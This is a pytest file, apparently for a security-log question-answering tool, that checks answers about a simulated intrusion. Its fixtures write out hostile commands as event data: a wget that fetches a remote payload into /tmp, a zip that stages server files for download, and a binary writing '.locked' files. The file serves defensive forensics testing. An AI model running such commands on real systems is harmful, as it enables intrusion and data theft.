@@ -1,0 +1,87 @@
+"""What is asked in passing, mistyped, or about something that the logs do not state."""
+
+import pytest
+
+from moewarden.graphs.questions.question import Earlier
+from moewarden.graphs.questions.subjects import Subject
+
+from .conftest import BREACH, HOSTILE, INTRUDER, event, login, rendered
+
+
+@pytest.mark.parametrize(
+    ("words", "expected"),
+    [
+        ("what happend between 3:01 and 3:02?", "Between 2026-11-21 03:01 and 03:02 UTC"),
+        ("From which country did they come?", f"These logs state no country; the addresses are {INTRUDER}"),
+        ("Did he also try other users?", f"{INTRUDER} tried “petra” and “ro'ot [E9]”"),
+        ("what should I tell the boss?", "Yes, this is hostile: "),
+        ("and did any of those give way?", f"Yes: {INTRUDER} got in as petra"),
+        ("who created accounts?", "the account svc9; somebody created the account"),
+        ("Were new accounts created?", "Yes: the account svc9"),
+    ],
+)
+def test_the_first_sentence_answers(ask, words, expected):
+    assert rendered(ask(words)).lower().startswith(expected.lower())
+
+
+def test_what_is_finished_is_said_to_be(ask):
+    events = [
+        login("03:00:01", "failure"),
+        login("03:00:02", "failure"),
+        login("09:00:00", "success", "inga", "10.0.0.8"),
+    ]
+    assert rendered(ask("is the guessing finished?", events, hostile=[1, 2])).startswith(
+        "As far as these logs show, yes"
+    )
+    assert rendered(ask("is it still going on?", events, hostile=[1, 2])).startswith("As far as these logs show, no")
+
+
+def test_it_is_the_attack_and_not_whom_the_last_answer_named(ask):
+    earlier = Earlier(subjects=(Subject("user", "inga"),), kind="involved")
+    text = rendered(ask("when did it start and when did it end?", earlier=earlier))
+    assert text.startswith("It began at 2026-11-21 03:00:01 UTC")
+
+
+def test_a_staged_file_that_is_fetched_counts_as_taken(ask):
+    staged = [
+        event(
+            "03:05:00",
+            "process_start",
+            user="petra",
+            src_ip=INTRUDER,
+            command="zip /var/www/q.zip /srv",
+            outcome="success",
+        ),
+        event(
+            "03:06:00", "web_request", src_ip=INTRUDER, target="/q.zip", outcome="success", fields={"size": "31337000"}
+        ),
+    ]
+    text = rendered(ask("Was data stolen?", [*BREACH[:7], *staged], hostile=[*HOSTILE[:-1], 8, 9]))
+    assert text.startswith(f"Yes: {INTRUDER} read “/q.zip”, 31.3 MB")
+
+
+def test_what_a_command_fetched_is_a_download(ask):
+    fetch = event(
+        "03:05:00", "process_start", user="petra", command="wget http://203.0.113.9/k -O /tmp/k", outcome="success"
+    )
+    text = rendered(ask("which programs were downloaded?", [*BREACH[:7], fetch], hostile=[*HOSTILE, 8]))
+    assert "wget http://203.0.113.9/k" in text
+    assert "203.0.113.9" in rendered(ask("which IP must I block?", [*BREACH[:7], fetch], hostile=[*HOSTILE, 8]))
+
+
+def test_when_alone_asks_for_the_time_of_the_act_before_it(ask):
+    events = [
+        *BREACH,
+        event("03:06:00", "security_weaken", user="petra", src_ip=INTRUDER, target="recorder", outcome="success"),
+    ]
+    text = rendered(ask("who turned off the logging and when?", events, hostile=[*HOSTILE, 12]))
+    assert text.startswith("petra weakened the protection “recorder”")
+    assert "It happened at 2026-11-21 03:06:00 UTC" in text
+
+
+def test_what_a_program_did_is_told_of_the_program(ask):
+    ran = event("03:05:00", "process_start", user="petra", parent="/tmp/evilbin", process="/bin/df", command="df -h")
+    wrote = event("03:06:00", "file_write", process="/tmp/evilbin", target="/srv/a.locked")
+    text = rendered(ask("what did evilbin do?", [*BREACH, ran, wrote], hostile=[*HOSTILE, 12, 13]))
+    assert text.startswith("On 2026-11-21 (UTC) evilbin ran “df -h” as petra")
+    assert "a.locked" in text
